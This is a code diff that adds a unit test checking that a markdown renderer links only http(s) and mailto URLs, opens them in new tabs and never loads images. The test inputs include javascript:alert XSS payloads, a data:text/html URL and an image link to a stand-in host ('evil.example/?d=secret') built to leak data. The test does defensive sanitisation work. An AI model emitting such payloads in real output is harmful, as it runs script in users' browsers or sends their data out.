@@ -90,6 +90,16 @@ test('markdown escapes raw HTML and gives code blocks a copy button', () => {
   assert.match(html, /hljs-number/);
 });
 
+test('markdown links open only http(s) and mailto, in a new tab, and images are never loaded', () => {
+  const html = renderBlocks('[docs](https://example.com/a?b=1&c=2) [bad](javascript:alert(1)) <javascript:alert(2)> ' +
+    '[data](data:text/html,x) ![leak](https://evil.example/?d=secret) ![x](javascript:alert(3))').join('');
+  assert.match(html, /<a href="https:\/\/example\.com\/a\?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">docs<\/a>/);
+  assert.ok(!/href="(javascript|data):/i.test(html), html);
+  assert.ok(!html.includes('<img'), html);
+  assert.match(html, /<a href="https:\/\/evil\.example\/\?d=secret"[^>]*>🖼 leak<\/a>/);
+  assert.match(html, / bad javascript:alert\(2\) data /);  // shown, not linked
+});
+
 test('the sliced build gives the same model as the one-go build', async () => {
   const data = syntheticTree(1234, 7);
   let yields = 0;
